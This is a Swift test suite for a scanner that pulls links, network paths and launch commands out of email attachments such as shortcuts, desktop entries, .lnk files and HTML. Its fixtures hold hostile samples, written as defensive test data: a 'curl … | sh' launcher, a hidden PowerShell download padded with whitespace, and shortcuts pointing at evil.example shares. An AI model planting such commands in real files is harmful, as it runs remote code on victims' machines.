// SPDX-License-Identifier: Apache-2.0

import AttachmentLinks
import Testing

@Suite struct ShortcutTests {
    @Test func `an internet shortcut leads to its address`() {
        let text = "[InternetShortcut]\r\nURL=https://a.example/x\r\nIconFile=\\\\evil.example\\i.ico\r\n"
        let found = Found(in: Array(text.utf8), name: "invoice.url", type: "application/x-mswinurl")
        #expect(found.urls == ["https://a.example/x"])
        #expect(found.values(.networkPath) == ["\\\\evil.example\\i.ico"])
    }

    @Test func `a shortcut to a share is evidence`() {
        let text = "[InternetShortcut]\nURL=file://evil.example/share/x.vbs\n"
        #expect(Found(in: Array(text.utf8), name: "a.url").evidence == [.networkPath])
    }

    @Test func `a desktop entry says what it starts`() {
        let text = "[Desktop Entry]\nType=Application\nExec=sh -c 'curl https://a.example/x | sh'\n"
        let found = Found(in: Array(text.utf8), name: "a.desktop", type: "application/x-desktop")
        #expect(found.urls == ["https://a.example/x"])
        #expect(found.evidence == [.launch])
    }

    @Test func `a property list leads to its address`() {
        let text = "<?xml version='1.0'?><plist><dict><key>URL</key><string>https://a.example/x</string></dict></plist>"
        #expect(Found(in: Array(text.utf8), name: "a.webloc", type: "text/xml").urls == ["https://a.example/x"])
    }

    /// A header, an argument string in UTF-16, and an environment block with the target.
    private func shellLink(arguments: String, target: String) -> [UInt8] {
        var link: [UInt8] = [0x4C, 0, 0, 0, 0x01, 0x14, 0x02, 0, 0, 0, 0, 0, 0xC0, 0, 0, 0, 0, 0, 0, 0x46]
        link += [0xA0, 0, 0, 0] + [UInt8](repeating: 0, count: 52)
        let units = Array(arguments.utf16)
        link +=
            [UInt8(units.count & 255), UInt8(units.count >> 8)]
            + units.flatMap { [UInt8($0 & 255), UInt8($0 >> 8)] as [UInt8] }
        var block: [UInt8] = [0x14, 0x03, 0, 0, 0x01, 0, 0, 0xA0] + Array(target.utf8)
        block += [UInt8](repeating: 0, count: 788 - block.count)
        return link + block
    }

    @Test func `a shell link tells target and arguments, and its addresses are links`() {
        let arguments = String(repeating: " ", count: 300) + "-w hidden -c iwr https://a.example/x.ps1"
        let found = Found(
            in: shellLink(arguments: arguments, target: "%windir%\\powershell.exe"), name: "a.lnk",
            type: "application/x-ms-shortcut")
        #expect(found.urls == ["https://a.example/x.ps1"])
        #expect(found.values(.arguments) == ["-w hidden -c iwr https://a.example/x.ps1"])
        #expect(found.values(.target) == ["%windir%\\powershell.exe"])
    }

    @Test func `a broken shell link is read as far as it goes`() {
        let whole = shellLink(arguments: "https://a.example/x", target: "c:\\x")
        for size in stride(from: 0, to: whole.count, by: 7) {
            _ = Found(in: Array(whole.prefix(size)), name: "a.lnk", type: "application/x-ms-shortcut")
        }
    }
}

@Suite struct OtherFormatTests {
    @Test func `a page is searched as mail clients read one`() {
        let found = Found(in: Array("<a href='&#104;ttps://a.example/x'>x</a>".utf8), name: "a.htm", type: "text/html")
        #expect(found.urls == ["https://a.example/x"])
    }

    @Test func `a page that is called a picture is searched all the same`() {
        #expect(
            Found(in: Array("<a href='https://a.example/x'>x</a>".utf8), name: "a.png", type: "text/html").urls.count
                == 1)
    }

    @Test func `a calendar and plain text are searched`() {
        let calendar = "BEGIN:VCALENDAR\r\nDESCRIPTION:see https://a.exa\r\n mple/x\r\nEND:VCALENDAR\r\n"
        #expect(
            Found(in: Array(calendar.utf8), name: "a.ics", type: "text/calendar").urls.contains("https://a.example/x"))
        #expect(
            Found(in: Array("see https://a.example/x.".utf8), name: "a", type: "text/plain").urls == [
                "https://a.example/x"
            ])
    }

    @Test func `strings in binary files are found in both widths`() {
        let wide = "https://b.example/y".utf8.flatMap { [$0, 0] as [UInt8] }
        let content = [0xD0, 0xCF, 0x11, 0xE0] + Array("..https://a.example/x\0..".utf8) + [0, 1] + wide + [0, 0, 9]
        #expect(
            Found(in: content, name: "a.doc", type: "application/msword").urls == [
                "https://a.example/x", "https://b.example/y",
            ])
    }

    @Test func `links over the limit are not kept, and the limit is named`() {
        var limits = AttachmentLinkLimits()
        limits.links = 3
        let text = (0..<10).map { "https://a.example/\($0) " }.joined()
        let found = Found(in: Array(text.utf8), name: "a.txt", type: "text/plain", limits: limits)
        #expect(found.urls.count == 3)
        #expect(found.scan.exceededLimits == [.links])
    }
}
